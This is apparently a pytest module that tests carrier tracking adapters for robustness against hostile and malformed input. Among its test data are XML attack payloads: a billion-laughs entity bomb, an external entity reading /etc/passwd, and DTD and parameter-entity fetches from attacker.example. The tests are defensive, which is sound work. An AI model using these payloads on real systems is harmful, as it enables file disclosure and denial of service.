"""TRK-2: a carrier payload is untrusted input.

Whatever arrives — wrong types, oversized or deeply nested documents, XML entity bombs and
external entities, fixtures with any field swapped for a value of another type — an adapter
either returns events or raises ``TrackingParseError``; no other exception ever escapes.
"""

from __future__ import annotations

import copy
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from garant.carriers import ADAPTERS, get_adapter
from garant.carriers.base import MAX_PAYLOAD_BYTES
from garant.domain.tracking import TrackingParseError

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "carriers"
SLUGS = [
    "laposte",
    "dhl_express",
    "dhl_universal",
    "ups",
    "fedex",
    "usps",
    "chronopost",
    "dhl_parcel_de",
]
XML_SLUGS = ["dhl_express", "chronopost", "dhl_parcel_de"]
JSON_SLUGS = [slug for slug in SLUGS if slug not in XML_SLUGS]

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<req:TrackingResponse xmlns:req="http://www.dhl.com"><AWBInfo><AWBNumber>&lol5;</AWBNumber>
</AWBInfo></req:TrackingResponse>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<req:TrackingResponse xmlns:req="http://www.dhl.com"><AWBInfo><AWBNumber>&xxe;</AWBNumber>
<Status><ActionStatus>success</ActionStatus></Status></AWBInfo></req:TrackingResponse>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE req:TrackingResponse SYSTEM "http://attacker.example/evil.dtd">
<req:TrackingResponse xmlns:req="http://www.dhl.com"/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<r/>"""


def _assert_contained(slug: str, payload: object) -> None:
    try:
        result = get_adapter(slug).parse(payload)  # type: ignore[arg-type]
    except TrackingParseError:
        return
    assert isinstance(result, list)


def test_trk2_all_six_adapters_are_registered():
    assert set(SLUGS) <= set(ADAPTERS)


@pytest.mark.parametrize("slug", SLUGS)
@pytest.mark.parametrize("payload", [None, 42, 4.2, ["a"], {"a": 1}, object(), bytearray(b"{}")])
def test_trk2_wrong_payload_types_raise_parse_error(slug, payload):
    with pytest.raises(TrackingParseError):
        get_adapter(slug).parse(payload)


@pytest.mark.parametrize("slug", SLUGS)
@pytest.mark.parametrize(
    "payload",
    ["", " ", "null", "42", '"text"', "[]", "{}", "[1, 2]", '{"a": NaN}', "<a/>", "{", "\x00",
     b"\xff\xfe\x00garbage", b'{"returnCode": "\xe9"}'],
)  # fmt: skip
def test_trk2_malformed_documents_raise_parse_error(slug, payload):
    with pytest.raises(TrackingParseError):
        get_adapter(slug).parse(payload)


@pytest.mark.parametrize("slug", SLUGS)
def test_trk2_payload_over_the_size_limit_is_refused_before_parsing(slug):
    huge = b'{"x": "' + b"a" * MAX_PAYLOAD_BYTES + b'"}'
    with pytest.raises(TrackingParseError, match="exceeds"):
        get_adapter(slug).parse(huge)


@pytest.mark.parametrize("slug", JSON_SLUGS)
@pytest.mark.parametrize("depth", [100, 200_000])
def test_trk2_deeply_nested_json_raises_parse_error(slug, depth):
    with pytest.raises(TrackingParseError):
        get_adapter(slug).parse("[" * depth + "]" * depth)


@pytest.mark.parametrize("slug", SLUGS)
@pytest.mark.parametrize(
    "payload",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion_laughs", "external_entity", "external_dtd", "parameter_entity"],
)
def test_trk2_xml_entity_attacks_raise_parse_error(slug, payload):
    with pytest.raises(TrackingParseError):
        get_adapter(slug).parse(payload)
    with pytest.raises(TrackingParseError):
        get_adapter(slug).parse(payload.decode())


@pytest.mark.parametrize("slug", XML_SLUGS)
def test_trk2_deeply_nested_xml_raises_parse_error(slug):
    nested = "<data>" * 5000 + "</data>" * 5000
    with pytest.raises(TrackingParseError):
        get_adapter(slug).parse(f'<data name="piece-shipment-list">{nested}</data>')


# --- every fixture, every field, every wrong type ------------------------------------------

WRONG_VALUES: list[Any] = [None, True, 7, -1.5, "", "garbage", [], {}, [{"x": 1}], "9" * 60]


def _paths(node: Any, prefix: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    if isinstance(node, dict):
        for key, value in node.items():
            yield (*prefix, key)
            yield from _paths(value, (*prefix, key))
    elif isinstance(node, list):
        for index, value in enumerate(node[:3]):  # the first few items show every shape
            yield (*prefix, index)
            yield from _paths(value, (*prefix, index))


def _replaced(document: Any, path: tuple[Any, ...], value: Any) -> Any:
    mutated = copy.deepcopy(document)
    holder = mutated
    for step in path[:-1]:
        holder = holder[step]
    holder[path[-1]] = value
    return mutated


def _json_fixtures() -> list[tuple[str, Path]]:
    return [(slug, f) for slug in JSON_SLUGS for f in sorted((FIXTURES / slug).glob("*.json"))]


@pytest.mark.parametrize(("slug", "fixture"), _json_fixtures(), ids=lambda v: getattr(v, "name", v))
def test_trk2_any_field_of_any_fixture_swapped_for_a_wrong_type_is_contained(slug, fixture):
    document = json.loads(fixture.read_text(encoding="utf-8"))
    for path in _paths(document):
        for value in WRONG_VALUES:
            _assert_contained(slug, json.dumps(_replaced(document, path, value)))


@pytest.mark.parametrize(
    ("slug", "name"),
    [("dhl_express", "in_transit_china_to_france.xml"), ("chronopost", "pickup_relay_lyon.xml")],
)
def test_trk2_any_xml_element_emptied_or_garbled_is_contained(slug, name):
    source = (FIXTURES / slug / name).read_text(encoding="utf-8")
    tags = sorted({part.split(">")[0] for part in source.split("<")[1:] if part[:1].isalpha()})
    for tag in tags:
        element = tag.split()[0]
        for replacement in ("", "garbage", "2024-13-45", "<x/>", "1"):
            # everything inside the element's first occurrence becomes the replacement
            start = source.find(f"<{tag}>")
            end = source.find(f"</{element}>", start)
            if start < 0 or end < 0:
                continue
            garbled = source[: start + len(tag) + 2] + replacement + source[end:]
            _assert_contained(slug, garbled)


def test_trk2_any_dhl_parcel_de_attribute_garbled_is_contained():
    source = (FIXTURES / "dhl_parcel_de" / "packstation_from_china.xml").read_text("utf-8")
    attributes = sorted(set(re.findall(r'\s([a-z-]+)="[^"]*"', source)))
    for attribute in attributes:
        for replacement in ("", "garbage", "31.02.2024 25:61", "1"):
            garbled = re.sub(rf'(\s{attribute})="[^"]*"', rf'\1="{replacement}"', source, count=1)
            _assert_contained("dhl_parcel_de", garbled)


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
    lambda children: st.lists(children, max_size=4)
    | st.dictionaries(
        st.sampled_from(
            ["returnCode", "shipment", "event", "shipments", "events", "trackResponse",
             "shipment", "package", "activity", "output", "completeTrackResults",
             "trackResults", "scanEvents", "trackingEvents", "trackingNumber", "error",
             "errors", "status", "date", "code", "timestamp", "statusCode", "idShip"]
        ),
        children,
        max_size=5,
    ),
    max_leaves=30,
)  # fmt: skip


@settings(max_examples=150, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(value=json_values, slug=st.sampled_from(JSON_SLUGS))
def test_trk2_random_json_shapes_are_contained(value, slug):
    _assert_contained(slug, json.dumps(value))
